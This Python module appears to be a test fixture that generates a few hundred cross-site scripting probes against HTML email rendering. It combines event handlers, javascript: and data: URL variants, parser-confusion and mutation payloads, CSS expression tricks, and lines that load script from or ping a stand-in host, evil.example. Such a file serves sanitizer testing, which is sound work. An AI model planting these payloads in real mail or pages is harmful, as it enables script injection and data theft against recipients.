"""Attempts to run a script from the HTML of a mail: each would set `window.pwned` or tell somebody else's server."""

from itertools import product

_SCRIPT = "window.pwned=1;top.pwned=1;parent.postMessage('pwned','*')"
_EVENTS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin")
_ELEMENTS = (
    '<img src=x {e}="{s}">',
    '<svg {e}="{s}">',
    '<svg><animate {e}="{s}" attributeName=x dur=1s>',
    '<body {e}="{s}">',
    '<video {e}="{s}"><source {e}="{s}"></video>',
    '<details open {e}="{s}">x</details>',
    '<input autofocus {e}="{s}">',
    '<iframe {e}="{s}" src=x></iframe>',
    '<marquee {e}="{s}">x</marquee>',
    '<div style="animation:x" {e}="{s}">x</div>',
    '<table background=x {e}="{s}"><tr><td>x</table>',
    '<a {e}="{s}" href=x>x</a>',
)
_URLS = (
    "javascript:{s}",
    "JaVaScRiPt:{s}",
    "java\tscript:{s}",
    "java\nscript:{s}",
    "&#106;avascript:{s}",
    "&#x6A;avascript&colon;{s}",
    " javascript:{s}",
    "\x01javascript:{s}",
    "vbscript:{s}",
    "data:text/html,<script>{s}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=\"{s}\"/>",
)
_PLACES = (
    '<a href="{u}">x</a>',
    '<img src="{u}">',
    '<iframe src="{u}"></iframe>',
    '<embed src="{u}">',
    '<object data="{u}"></object>',
    '<form action="{u}"><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url={u}">',
    '<base href="{u}">',
    '<link rel="stylesheet" href="{u}">',
    '<img srcset="{u} 1x">',
)
_OTHERS = (
    "<script>{s}</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>{s}</script>",
    "<<script>{s}//<</script>",
    "<script\x00>{s}</script>",
    '<noscript><p title="</noscript><img src=x onerror={s}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={s}&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror={s}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={s}>",
    "<style>@import 'javascript:{s}';</style>",
    "<style>*{{background:url('javascript:{s}')}}</style>",
    '<div style="background:url(javascript:{s})">x</div>',
    '<div style="width:expression({s})">x</div>',
    '<div style="behavior:url(x.htc)">x</div>',
    '<div style="-moz-binding:url(x.xml#y)">x</div>',
    "<template><script>{s}</script></template>",
    '<xml><a href="javascript:{s}">x</a></xml>',
    "<textarea><script>{s}</script></textarea>",
    "<title><script>{s}</script></title>",
    "<!--[if gte IE 4]><script>{s}</script><![endif]-->",
    "<!-- --!><img src=x onerror={s}>",
    "<![CDATA[<img src=x onerror={s}>]]>",
    '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>{s}</script></html>',
    '<img src="cid:x" onerror="{s}">',
    '<img src="cid:x&quot; onerror=&quot;{s}">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
    '<img alt="`&gt;&lt;script&gt;{s}&lt;/script&gt;">',
    "<p title='\"><img src=x onerror={s}>'>x</p>",
    '<a href="http://x" target="_top" ping="http://evil.example/">x</a>',
    '<portal src="javascript:{s}"></portal>',
    "<isindex type=image src=1 onerror={s}>",
    "<b/style=position:fixed;top:0;left:0;width:100%;height:100%;onmouseover={s}>x",
    '<button formaction="javascript:{s}">x</button>',
    "<use xlink:href=\"data:image/svg+xml,<svg id='x' onload='{s}'/>#x\"/>",
    "-----Original Message-----<img src=x onerror={s}>",
    "<blockquote><script>{s}</script></blockquote></details><script>{s}</script>",
    "</pre></body></html><script>{s}</script>",
    "{{% csrf_token %}}{{{{ 7|add:7 }}}}<img src=x onerror={s}>",
)


def probes() -> list[str]:
    """Over two hundred of them."""
    found = [element.format(e=event, s=_SCRIPT) for element, event in product(_ELEMENTS, _EVENTS)]
    found += [place.format(u=url.format(s=_SCRIPT)) for place, url in product(_PLACES, _URLS)]
    return found + [other.format(s=_SCRIPT) for other in _OTHERS]
